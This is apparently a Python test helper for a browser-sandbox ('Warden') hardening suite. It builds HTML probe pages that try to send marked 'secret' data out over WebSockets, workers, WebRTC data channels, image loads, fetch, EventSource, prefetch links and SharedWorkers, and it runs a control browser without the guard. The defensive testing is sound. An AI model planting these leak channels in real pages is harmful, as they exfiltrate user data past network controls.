"""Probe pages for the web channel tests, and a browser without Warden that shows a probe reaches its listener.

`{ws}` in a page is a WebSocket URL, `{other}` another origin, `{udp}` and `{tcp}` the ports of a
UDP and a TCP listener on 127.0.0.1. Each button starts one channel when clicked and adds
`#done` to the page once the channel has answered or failed.
"""

from __future__ import annotations

from collections.abc import Callable

from playwright.async_api import async_playwright

from engine.envs.web.browser import require_browser
from tests.hardening.loopback import eventually

_DONE = "const done = (what) => { const p = document.createElement('p'); p.id = 'done'; p.textContent = what; " \
        "document.body.append(p); };"

WEBRTC = r"""
window.rtc = async (make) => {
  const pc = make({iceServers: []});
  pc.createDataChannel('leak');
  const offer = await pc.createOffer();
  await pc.setLocalDescription(offer);
  const fingerprint = offer.sdp.match(/a=fingerprint:.*/)[0];
  const answer = ['v=0', 'o=- 1 2 IN IP4 127.0.0.1', 's=-', 't=0 0', 'a=group:BUNDLE 0',
    'm=application 9 UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 0.0.0.0', 'a=mid:0',
    'a=ice-ufrag:leak', 'a=ice-pwd:leakleakleakleakleakleak', fingerprint, 'a=setup:active',
    'a=sctp-port:5000', ''].join('\r\n');
  await pc.setRemoteDescription({type: 'answer', sdp: answer});
  await pc.addIceCandidate({candidate: 'candidate:1 1 udp 2122260223 127.0.0.1 {udp} typ host',
                            sdpMid: '0', sdpMLineIndex: 0});
  await pc.addIceCandidate({candidate: 'candidate:2 1 tcp 1518280447 127.0.0.1 {tcp} typ host tcptype passive',
                            sdpMid: '0', sdpMLineIndex: 0});
  window.kept = pc;
};
window.fresh = () => { const f = document.createElement('iframe'); document.body.append(f); return f.contentWindow; };
"""

SOCKETS = """<!doctype html><html><head><title>Sockets</title></head><body>
<script>""" + _DONE + r"""
window.socket = () => {
  const ws = new WebSocket('{ws}');
  ws.onopen = () => ws.send('leak');
  ws.onerror = () => done('error');
  ws.onclose = () => done('closed');
};
window.workerSocket = () => {
  const source = "const ws = new WebSocket('{ws}'); ws.onopen = () => ws.send('leak from a worker');" +
                 "ws.onerror = () => postMessage('error'); ws.onclose = () => postMessage('closed');";
  const worker = new Worker(URL.createObjectURL(new Blob([source], {type: 'text/javascript'})));
  worker.onmessage = (event) => done(event.data);
};
""" + WEBRTC + """</script>
<button id="socket" onclick="socket()">Open a socket</button>
<button id="worker-socket" onclick="workerSocket()">Open a socket from a worker</button>
<button id="rtc" onclick="rtc((c) => new RTCPeerConnection(c)).finally(() => done('rtc'))">Call a peer</button>
<button id="rtc-frame" onclick="rtc((c) => new (fresh().RTCPeerConnection)(c)).finally(() => done('rtc'))">
Call a peer from a fresh frame</button>
</body></html>"""


READS = """<!doctype html><html><head><title>Reads</title></head><body>
<script>""" + _DONE + r"""
const shared = "fetch('{other}/shared?d=secret', {method: 'POST', body: 'secret'})";
window.leak = {
  image: () => { const i = new Image(); i.onload = i.onerror = () => done('image'); i.src = '{other}/image?d=secret'; },
  fetch: () => fetch('{other}/fetch?d=secret', {mode: 'no-cors'}).then(() => done('fetch'), () => done('fetch')),
  events: () => { const e = new EventSource('{other}/events?d=secret');
                  e.onerror = () => { e.close(); done('events'); }; },
  prefetch: () => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '{other}/prefetch?d=secret';
                    l.onload = l.onerror = () => done('prefetch'); document.head.append(l); },
  shared: () => { new SharedWorker(URL.createObjectURL(new Blob([shared], {type: 'text/javascript'})));
                  done('shared'); },
};
</script>
<button id="image" onclick="leak.image()">Show a picture</button>
<button id="fetch" onclick="leak.fetch()">Fetch</button>
<button id="events" onclick="leak.events()">Listen</button>
<button id="prefetch" onclick="leak.prefetch()">Prefetch</button>
<button id="shared" onclick="leak.shared()">Share a worker</button>
<a href="/bounce">Bounce away</a>
</body></html>"""

PICTURED = """<!doctype html><html><head><title>Pictured</title></head><body>
<img src="{other}/picture.png?d=secret" alt="a picture from elsewhere"></body></html>"""


def page(template: str, **values: object) -> str:
    """A probe page with its `{name}` placeholders filled (the page's own braces are left alone)."""
    for name, value in values.items():
        template = template.replace("{" + name + "}", str(value))
    return template


async def reaches_without_warden(url: str, button: str, arrived: Callable[[], bool]) -> bool:
    """Whether clicking `button` on `url` in a plain Chromium (no Warden) makes `arrived` hold: a positive control."""
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=require_browser())
        try:
            page = await browser.new_page()
            await page.goto(url)
            await page.click(button)
            return await eventually(arrived)
        finally:
            await browser.close()
